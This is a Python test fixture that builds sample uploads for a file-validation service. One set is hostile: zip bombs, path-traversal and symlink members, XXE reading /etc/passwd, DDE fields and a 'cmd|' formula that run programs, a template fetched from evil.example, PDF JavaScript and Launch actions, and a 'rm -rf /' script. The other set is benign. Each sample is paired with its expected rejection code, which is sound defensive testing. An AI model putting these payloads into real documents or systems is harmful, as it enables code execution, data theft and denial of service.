"""Forty uploads that mean harm, built here in code, and as many that mean none."""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Mapping
from io import BytesIO

from PIL import Image
from pypdf import PdfWriter
from tests.worlds import PDF

TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
Parts = Mapping[str, bytes | str]
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def zipped(parts: Parts, how: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", how) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def document(body: str = "<w:p/>") -> str:
    return f'<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'


def docx(more: Parts | None = None, body: str = "<w:p/>", types: str = "") -> bytes:
    parts = {"[Content_Types].xml": TYPES.format(types), "word/document.xml": document(body)}
    return zipped(parts | dict(more or {}))


def xlsx(more: Parts | None = None, formula: str = "SUM(A1:A2)") -> bytes:
    cell = f"<sheetData><row><c><f>{formula}</f></c></row></sheetData>"
    sheet = f'<worksheet xmlns="{SHEET}">{cell}</worksheet>'
    parts = {
        "[Content_Types].xml": TYPES.format(""),
        "xl/workbook.xml": f'<workbook xmlns="{SHEET}"/>',
        "xl/worksheets/sheet1.xml": sheet,
        "xl/printerSettings/printerSettings1.bin": b"MZ\x00\x00",
    }
    return zipped(parts | dict(more or {}))


def table(cells: str, strings: str = "") -> bytes:
    """Write a table with a sheet of these cells, and these shared strings."""
    sheet = f'<worksheet xmlns="{SHEET}"><sheetData><row>{cells}</row></sheetData></worksheet>'
    shared = f'<sst xmlns="{SHEET}">{strings}</sst>'
    return xlsx({"xl/worksheets/sheet2.xml": sheet, "xl/sharedStrings.xml": shared})


def paragraph(*runs: str) -> str:
    return "<w:p>" + "".join(f"<w:r><w:t>{run}</w:t></w:r>" for run in runs) + "</w:p>"


def related(kind: str, target: str, mode: str = 'TargetMode="External"') -> Parts:
    one = f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" {mode}/>'
    return {"word/_rels/document.xml.rels": RELS.format(one)}


def field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{how}"/></w:r>' for how in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


def said_to_hold(size: int) -> bytes:
    """Say in the directory that one member unpacks to so many bytes."""
    whole = bytearray(docx())
    at = whole.index(b"PK\x01\x02")
    whole[at + 24 : at + 28] = struct.pack("<I", size)
    return bytes(whole)


def flagged(bit: int) -> bytes:
    whole = bytearray(docx())
    at = whole.index(b"PK\x01\x02")
    whole[at + 8 : at + 10] = struct.pack("<H", bit)
    return bytes(whole)


def overlapping() -> bytes:
    """Let two entries of the directory own the same bytes (a bomb without nesting)."""
    whole = docx()
    at = whole.index(b"PK\x01\x02")
    length = 46 + struct.unpack("<H", whole[at + 28 : at + 30])[0]
    twin = bytearray(whole[at : at + length])
    twin[46:47] = b"x"
    body = whole[:at] + twin + whole[at:]
    end = bytearray(body[-22:])
    members, size = struct.unpack("<HI", end[10:16])
    end[8:16] = struct.pack("<HHI", members + 1, members + 1, size + length)
    return body[:-22] + bytes(end)


def gap_before_directory() -> bytes:
    """Let bytes stand between members and directory that neither owns."""
    whole = docx()
    at = whole.index(b"PK\x01\x02")
    end = bytearray(whole[-22:])
    end[16:20] = struct.pack("<I", at + 50)
    return whole[:at] + b"x" * 50 + whole[at:-22] + bytes(end)


def linked_member() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", TYPES.format(""))
        archive.writestr("word/document.xml", document())
        link = zipfile.ZipInfo("word/media/image1.png")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def pdf_with(page: bytes = b"", objects: bytes = b"") -> bytes:
    """Write a PDF by hand, whose page and objects say more."""
    whole = PDF.replace(b"/Page/", b"/Page" + page + b"/")
    whole = whole.replace(b"xref\n0 4", objects + b"xref\n0 4")
    return whole.replace(b"\n165\n", b"\n%d\n" % whole.index(b"xref\n0 4"))


def pdf_with_packed(text: bytes) -> bytes:
    """Hide one object in an object stream (ISO 32000-1 section 7.5.7)."""
    head = b"9 0 "
    packed = zlib.compress(head + text)
    told = b"<</Type/ObjStm/N 1/First %d/Length %d/Filter/FlateDecode>>" % (len(head), len(packed))
    stream = b"8 0 obj" + told + b"stream\n" + packed + b"\nendstream endobj\n"
    return pdf_with(objects=stream)


def written_pdf(*, password: str = "", attachment: bool = False) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    if attachment:
        writer.add_attachment("x.exe", b"MZ")
    if password:
        writer.encrypt(password)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


HELVETICA = "/F1 <</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def told_pdf(*pages: str, font: str = HELVETICA) -> bytes:
    """Write a PDF that says one line after another on each page; a letter is a byte."""
    kids = " ".join(f"{3 + 2 * place} 0 R" for place in range(len(pages)))
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        f"<</Type/Pages/Kids[{kids}]/Count {len(pages)}>>".encode(),
    ]
    for place, page in enumerate(pages):
        lines = "".join(f"({line}) Tj T* " for line in page.split("\n") if page)
        stream = f"BT /F1 12 Tf 14 TL 72 700 Td {lines}ET".encode()
        objects += [
            f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents {4 + 2 * place} 0 R"
            f"/Resources<</Font<<{font}>>>>>>".encode(),
            b"<</Length %d>>stream\n%s\nendstream" % (len(stream), stream),
        ]
    return numbered(objects)


def numbered(objects: list[bytes]) -> bytes:
    """Write objects one after another, with the table that says where each begins."""
    whole, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(whole))
        whole += b"%d 0 obj" % number + one + b"endobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    head = b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
    trailer = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (size, len(whole))
    return whole + head + trailer


def png(mode: str = "RGB", size: tuple[int, int] = (40, 30)) -> bytes:
    picture = Image.new(mode, size)
    picture.putdata(
        [
            (x * 7 % 256)
            if len(mode) == 1
            else tuple((x * k) % 256 for k in range(3, 3 + len(mode)))
            for x in range(size[0] * size[1])
        ]
    )
    out = BytesIO()
    picture.save(out, "PNG")
    return out.getvalue()


def few_colours() -> bytes:
    out = BytesIO()
    Image.effect_noise((40, 30), 50).convert("P").save(out, "PNG", transparency=3)
    return out.getvalue()


def jpg(*, turned: int = 0, comment: bytes = b"") -> bytes:
    picture = Image.effect_mandelbrot((64, 48), (-2, -1.5, 1, 1.5), 60).convert("RGB")
    out, exif = BytesIO(), Image.Exif()
    exif[0x010F] = "Maker"
    if turned:
        exif[0x0112] = turned
    exif.get_ifd(0x8825)[2] = (31.0, 13.0, 49.0)  # where it was taken
    picture.save(out, "JPEG", quality=88, exif=exif, comment=comment)
    return out.getvalue()


def huge_png(side: int = 40_000) -> bytes:
    """Say in the head that there are more pixels than anybody can hold."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + content))
        return struct.pack(">I", len(content)) + kind + content + crc

    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * 100_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'

HOSTILE: dict[str, tuple[bytes, str]] = {
    "nothing": (b"", "files.empty"),
    "one byte too large": (b"%PDF-" + b"x" * (20 * 2**20 - 4), "files.too_large"),
    "a program renamed": (b"MZ\x90\x00" + b"\x00" * 60, "files.kind"),
    "an ELF program": (b"\x7fELF\x02\x01\x01" + bytes(60), "files.kind"),
    "a script": (b"#!/bin/sh\nrm -rf /\n", "files.kind"),
    "a page": (b"<html><script>alert(1)</script>", "files.kind"),
    "a drawing with script": (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>',
        "files.kind",
    ),
    "EICAR": (EICAR, "files.kind"),
    "a picture with motion": (b"GIF89a" + bytes(60), "files.kind"),
    "an old document": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(60), "files.locked"),
    "a plain archive": (zipped({"run.txt": "MZ"}), "files.kind"),
    "an archive cut short": (docx()[:40], "files.kind"),
    "an archive whose sums are wrong": (
        docx({"word/a.bin": b"abc" * 50}).replace(b"PK\x03\x04", b"PK\x03\x04", 1)[:-22]
        + docx()[-22:],
        "files.kind",
    ),
    "a document under a password": (flagged(1), "files.locked"),
    "a PDF and an archive": (PDF + zipped({"a": "x"}), "files.two_faced"),
    "a picture and an archive": (png() + docx(), "files.two_faced"),
    "a photo and an archive": (jpg() + zipped({"a.class": "x"}), "files.two_faced"),
    "a picture and a page": (
        jpg(comment=b"<html><script>alert(1)</script></html>"),
        "files.two_faced",
    ),
    "a document and a PDF": (
        zipped({"a": PDF} | {"word/document.xml": document()}, zipfile.ZIP_STORED),
        "files.two_faced",
    ),
    "a PDF and much behind it": (PDF + b"MZ" + b"\x90" * 500, "files.two_faced"),
    "a document and a table": (docx({"xl/workbook.xml": "<x/>"}), "files.two_faced"),
    "bytes before the archive": (docx()[:30] + docx(), "files.two_faced"),
    "a note behind the archive": (docx() + b"note", "files.two_faced"),
    "bytes before the directory": (gap_before_directory(), "files.two_faced"),
    "an object by its mark": (
        docx(body="<w:object><o:OLEObject xmlns:o='o'/></w:object>"),
        "files.embedded",
    ),
    "an object by its type": (
        docx(types='<Default Extension="x" ContentType="a/vnd.oleObject"/>'),
        "files.embedded",
    ),
    "macros by their relation": (docx(related("vbaProject", "x.xml", "")), "files.macros"),
    "markup in a writing nobody needs": (
        docx({"word/settings.xml": '<?xml version="1.0" encoding="gb2312"?><a/>'}),
        "files.broken",
    ),
    "a PDF without a page": (
        PDF.replace(b"[3 0 R]/Count 1", b"[     ]/Count 0"),
        "files.broken",
    ),
    "a PDF with script in a stream packed by nobody": (
        pdf_with(
            objects=b"8 0 obj<</Type/ObjStm/N 1/First 4>>stream\n9 0 <</JS(x)>>\nendstream endobj\n"
        ),
        "files.active",
    ),
    "a bomb by its own word": (said_to_hold(2**31), "files.packed"),
    "a bomb of 600 MB": (docx({"word/media/b.bin": b"\0" * (600 * 2**20 // 100)}), "files.packed"),
    "forty thousand parts": (
        zipped({f"word/{n}": "" for n in range(40_000)}, zipfile.ZIP_STORED),
        "files.packed",
    ),
    "two members in the same bytes": (overlapping(), "files.two_faced"),
    "a member that climbs out": (docx({"../../etc/cron.d/x": "x"}), "files.unsafe_names"),
    "a member of another system": (docx({"C:\\windows\\x": "x"}), "files.unsafe_names"),
    "a member that is a link": (linked_member(), "files.unsafe_names"),
    "two members of one name": (docx({"WORD/DOCUMENT.XML": "<x/>"}), "files.unsafe_names"),
    "macros": (docx({"word/vbaProject.bin": "x"}), "files.macros"),
    "macros in capitals": (xlsx({"xl/VBAPROJECT.BIN": "x"}), "files.macros"),
    "macros by their type": (
        docx(
            types='<Override PartName="/x" ContentType="a/vnd.ms-word.document.macroEnabled+xml"/>'
        ),
        "files.macros",
    ),
    "a sheet of old macros": (xlsx({"xl/macrosheets/a.xml": "<x/>"}), "files.macros"),
    "controls": (docx({"word/activeX/activeX1.bin": "x"}), "files.macros"),
    "an object in it": (docx({"word/embeddings/oleObject1.bin": "x"}), "files.embedded"),
    "an archive in it": (docx({"word/media/image1.png": zipped({"a": "b"})}), "files.embedded"),
    "a program in it": (docx({"word/media/image1.png": b"MZ\x90\x00"}), "files.embedded"),
    "an HTML part in it": (docx(related("aFChunk", "x.html", "")), "files.embedded"),
    "a far template": (
        docx(related("attachedTemplate", "http://evil.example/t.dotm")),
        "files.linked",
    ),
    "a far picture": (docx(related("image", "http://127.0.0.1:9/x.png")), "files.linked"),
    "a share in the network": (docx(related("image", "\\\\evil\\x.png", "")), "files.linked"),
    "a link to a local program": (docx(related("hyperlink", "file:///c:/x.exe")), "files.linked"),
    "a field that runs": (docx(body=field(" DDEAUTO c:\\\\x.exe ")), "files.fields"),
    "a field in pieces": (docx(body=field(" DD", "EAU", "TO x y")), "files.fields"),
    "a field that fetches": (
        docx(body=field(' INCLUDEPICTURE "http://evil.example/x"')),
        "files.fields",
    ),
    "a short field that runs": (docx(body='<w:fldSimple w:instr=" DDE a b "/>'), "files.fields"),
    "a formula that runs": (xlsx(formula="cmd|'/C calc'!A0"), "files.fields"),
    "a formula that fetches": (xlsx(formula="WEBSERVICE(A1)"), "files.fields"),
    "a link to another book": (
        xlsx({"xl/externalLinks/externalLink1.xml": f'<x xmlns="{SHEET}"><ddeLink/></x>'}),
        "files.fields",
    ),
    "an entity from outside": (docx({"word/settings.xml": XXE}), "files.entities"),
    "an entity in another writing": (
        docx({"word/settings.xml": XXE.encode("utf-16")}),
        "files.entities",
    ),
    "a billion laughs": (docx({"customXml/item1.xml": LAUGHS}), "files.entities"),
    "markup that is none": (docx({"word/settings.xml": "<a><b></a>"}), "files.broken"),
    "a PDF with script": (
        PDF.replace(b"/Catalog/", b"/Catalog/OpenAction<</S/JavaScript/JS(x)>>/"),
        "files.active",
    ),
    "a PDF with escaped script": (pdf_with(b"/J#61v#61Script(x)"), "files.active"),
    "a PDF that starts programs": (pdf_with(b"/AA<</O<</S/Launch/F(x)>>>>"), "files.active"),
    "a PDF with a file in it": (written_pdf(attachment=True), "files.active"),
    "a PDF with a dynamic form": (pdf_with(b"/XFA[1 0 R]"), "files.active"),
    "a PDF with script in an object stream": (
        pdf_with_packed(b"<</S/JavaScript/JS(app.alert\\(1\\))>>"),
        "files.active",
    ),
    "a PDF with escaped script in an object stream": (
        pdf_with_packed(b"<</S/J#61vaScript/#4aS(x)>>"),
        "files.active",
    ),
    "a PDF with film": (pdf_with(b"/Annots[<</Subtype/Movie>>]"), "files.active"),
    "a PDF under a password": (written_pdf(password="geheim"), "files.locked"),
    "a PDF without an end": (PDF.replace(b"%%EOF", b""), "files.broken"),
    "a PDF of noise": (b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"%%EOF", "files.broken"),
    "a picture of 40000 × 40000": (huge_png(), "files.pixels"),
    "a picture cut short": (png()[:60], "files.broken"),
    "a photo of noise": (b"\xff\xd8\xff\xe0" + bytes(300), "files.broken"),
}

GOOD: dict[str, tuple[str, bytes]] = {
    "a small PDF": ("pdf", PDF),
    "a PDF as a program writes it": ("pdf", written_pdf()),
    "a PDF with a link and a form": (
        "pdf",
        pdf_with(b"/Annots[<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://a.example)>>>>]"),
    ),
    "a PDF with blanks behind": ("pdf", PDF + b"\r\n\r\n"),
    "a document": ("docx", docx()),
    "a document with a link": ("docx", docx(related("hyperlink", "https://a.example/link.html"))),
    "a document with a page number": ("docx", docx(body=field(" PAGE ", " \\* MERGEFORMAT"))),
    "a document with a linked word": (
        "docx",
        docx(body=field(' HYPERLINK "https://a.example/link/dd.html"')),
    ),
    "a document with a picture": ("docx", docx({"word/media/image1.png": png()})),
    "a document with folders and a large part": (
        "docx",
        docx({"word/": "", "word/media/image1.emf": bytes(range(256)) * 1000}),
    ),
    "a document with a field that was never begun": (
        "docx",
        docx(body='<w:p><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    ),
    "a PDF that looks like an archive by chance": (
        "pdf",
        PDF.replace(b"startxref", b"%PK\x05\x06 by chance, and no directory\nstartxref"),
    ),
    "a PDF with harmless packed objects": ("pdf", pdf_with_packed(b"<</A 1>>")),
    "a PDF that speaks of streams": ("pdf", PDF.replace(b"startxref", b"%\nstream\n%\nstartxref")),
    "a PDF whose index names what is not there": (
        "pdf",
        PDF.replace(b"0000000103 00000 n \n", b"0000000103 00000 n \n0000000001 00000 n \n")
        .replace(b"0 4\n", b"0 5\n")
        .replace(b"/Size 4", b"/Size 5"),
    ),
    "a table": ("xlsx", xlsx()),
    "a table with a name": ("xlsx", xlsx(formula='IF(A1="a|b",Sheet2!B1,"")')),
}
PICTURES: dict[str, tuple[str, bytes]] = {
    "a picture": ("png", png()),
    "a picture one can see through": ("png", png("RGBA")),
    "a grey picture": ("png", png("L")),
    "a picture with few colours": ("png", few_colours()),
    "a photo": ("jpg", jpg()),
}
